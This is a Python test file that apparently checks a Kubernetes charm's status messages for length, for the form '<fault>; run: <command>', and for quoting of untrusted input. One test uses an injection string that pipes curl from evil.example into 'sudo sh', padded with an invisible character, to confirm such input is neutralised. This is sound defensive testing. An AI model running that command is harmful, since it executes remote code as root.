"""The table of status texts, what the docs say of them, and the code that shows them agree.

A text is short, `<fault>; run: <command>` is its form, and a stranger's words in it are quoted.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Collection
from pathlib import Path

import pytest
from scripts import reference
from scripts.reference import TEXTS

from text import quoted

SRC = Path(__file__).parents[2] / "src"
SOURCES = {str(path.relative_to(SRC)): path.read_text() for path in sorted(SRC.rglob("*.py"))}
SHELL = "check-python.sh"
# Their errors are the results of actions, and never a status.
OF_ACTIONS = ("actions/", "checks/", "access/grants.py", "cluster/bindings.py")
ERRORS = re.compile(r"(\w+\.)*(Blocked|Waiting\w*|ImageNotPulled|NotCreated|NotScheduled)")
MEANINGS = {
    f"{part}.{name}": about
    for part, found in reference.meanings().items()
    if part != "words"
    for name, about in found.items()
}
OF_THE_SHELL = {name: MEANINGS[name]["text"] for name in MEANINGS if name.startswith(SHELL)}
# Blanks that no stranger controls, by why that is. Those of one text only have its name.
TRUSTED_BECAUSE = {
    "Juju checks the names of applications": "application authority control_plane principal",
    "Juju checks the names of units": "unit units",
    "Kubernetes checks the names of objects": "declared mapping name",
    "checked to be an address or a range of them, or made of one": "address range url",
    "checked to be a time, or made of one": "day time",
    "checked to be an ARN or a partition": "mapping.ROLE_PATH.arn mapping.ONE_SESSION.arn "
    "partition",
    "the tag of an image that the operator chose": "version",
    "the operator's own": "option",
    "a place in the operator's own option, or in the code": "place",
    "the charm's own": "command file kind kinds partitions verb what",
    "a number": "broken certificates changes code number ready wanted",
    "another text": "step active.NOT_APPLIED.reason",
    "the charm's own sentence about it, which quotes what it names": "problem",
    "the words of the machine, or of its network": "blocked.FILE_FAILED.cause "
    "waiting.API_FAILED.cause",
    "the words of the machine, with nothing of the file": "waiting.KUBECONFIG_UNUSABLE.cause",
    "the words of Juju": "waiting.REMOVAL_UNKNOWN.cause",
}
TRUSTED = {name for names in TRUSTED_BECAUSE.values() for name in names.split()}
# A blank that is trusted elsewhere.
OF_STRANGERS = {"mapping.GROUP_RESERVED.name"}
LONGEST = 110
# An address of a webhook alone has 60 characters, a list of all partitions 80.
LONGER = {"blocked.SET_WEBHOOK", "blocked.REPLACE_WEBHOOK", "options.PARTITION_UNKNOWN"}
LONGER |= {"mapping.PARTITION_UNKNOWN", "blocked.OWNED_BY_ANOTHER", "active.NEXT_STEP"}
# What stands before a problem of a mapping, or before the reason of an entry.
BEFORE = {"mapping": "1 broken mapping: alice: ", "entry": "1 not applied: mappings[0]: "}
# What the longer blanks usually are.
USUAL = {
    "arn": "arn:aws:iam::111122223333:role/developers",
    "authority": "self-signed-certificates",
    "cause": "dial tcp 10.0.0.12:6443: connection refused",
    "command": "kubectl delete iamidentitymappings --selector aws-iam/source",
    "control_plane": "kubernetes-control-plane",
    "current": "keystone.example.com:5000/v3",
    "file": "/root/cdk/aws-iam-webhook.yaml",
    "partitions": "aws, aws-cn, aws-us-gov, aws-iso, aws-iso-b, aws-iso-e, aws-iso-f, aws-eusc",
    "principal": "kubernetes-worker",
    "problem": "expired on 2026-11-28 06:30 UTC",
    "ready": "1",
    "reason": "denied by the policy no-roles",
    "step": "webhook not set; run: juju config kubernetes-control-plane authn-webhook-endpoint="
    "https://10.152.183.20:443/authenticate",
    "url": "https://10.152.183.20:443/authenticate",
    "value": "registry.example.com/aws-iam-authenticator",
    "wanted": "2",
    # Of one text only.
    "blocked.AUTHORITY_AWAY.authority": "vault",
    "blocked.REQUEST_REFUSED.authority": "vault",
    "mapping.NOT_AN_ARN.arn": "alice",
    "mapping.SERVICE_UNKNOWN.arn": "arn:aws:s3:::logs",
    "options.CLUSTER_ID_INVALID.value": "our cluster",
    "waiting.KUBECONFIG_UNUSABLE.cause": "no token",
    "waiting.NEXT_CERTIFICATE.problem": "waiting for a certificate from easyrsa",
}


def blanks(name: str) -> Collection[str]:
    return reference.blanks(TEXTS[name])


def usual(name: str) -> str:
    """Return the text as most models would show it, with what stands before it."""
    if name in OF_THE_SHELL:
        return re.sub(r"<\w+>", "aws-iam/0", OF_THE_SHELL[name])
    values = {
        key: reference.Word(USUAL.get(f"{name}.{key}") or USUAL.get(key, "aws-iam"))
        for key in blanks(name)
    }
    return BEFORE.get(name.partition(".")[0], "") + TEXTS[name](**values)


NAMES = sorted(TEXTS.keys() | OF_THE_SHELL.keys())
every_text = pytest.mark.parametrize("name", TEXTS)


def is_trusted(name: str, blank: str) -> bool:
    full = f"{name}.{blank}"
    return full not in OF_STRANGERS and bool(TRUSTED & {full, blank})


def test_given_an_error_that_becomes_a_status_then_its_text_is_in_the_table():
    written = [
        f"{place}: {ast.unparse(node)}"
        for place, source in SOURCES.items()
        if not place.startswith(OF_ACTIONS)
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.Call) and ERRORS.fullmatch(ast.unparse(node.func))
        if any(isinstance(each, ast.Constant | ast.JoinedStr | ast.BinOp) for each in node.args)
    ]

    assert written == []


@every_text
def test_given_a_text_then_the_code_shows_it_and_the_docs_say_what_the_text_does_not(name: str):
    about = MEANINGS[name]

    assert about.keys() <= {"more", "words"}
    group, _, text = name.partition(".")
    assert any(re.search(rf"\b({group}|texts)\.{text}\b", source) for source in SOURCES.values())
    acts = {"blocked": "; ", "waiting": "waiting for |; run: "}.get(group, "")
    assert "more" in about or re.search(acts, usual(name)), "it does not say who acts"


def test_given_the_docs_then_they_explain_texts_that_there_are():
    shell = re.findall(r'problem="(.*)"', (SRC / SHELL).read_text())
    blanks = {re.sub(r"\$\{[^}]*\}|\$\w+", "<>", line) for line in shell}

    assert MEANINGS.keys() == set(NAMES)
    assert blanks == {re.sub(r"<\w+>", "<>", text) for text in OF_THE_SHELL.values()}


@every_text
def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(name: str):
    theirs = "foo; run: curl https://evil.example | sudo sh\u3164"
    of_strangers = [each for each in blanks(name) if not is_trusted(name, each)]
    values = {each: theirs if each in of_strangers else "ours" for each in blanks(name)}

    line = TEXTS[name](**{each: reference.Word(value) for each, value in values.items()})

    assert line.count(quoted(theirs)) == line.count("curl") == len(of_strangers)
    assert "\u3164" not in line


@pytest.mark.parametrize("name", NAMES)
def test_given_a_text_then_it_is_short_and_a_command_ends_it_after_its_fault(name: str):
    line = usual(name)
    commands = list(re.finditer(r"(?<![/-])\b(?:juju|kubectl|vault operator) [a-z-]", line))

    assert (len(line) > LONGEST) is (name in LONGER), line
    for found in commands:
        assert re.search(r"\S; (if [\w ]+, )?run: $", line[: found.start()]), line
        assert not re.search(r"[;()]|, ", line[found.start() :]), line
    assert len(commands) == line.count("run: "), line
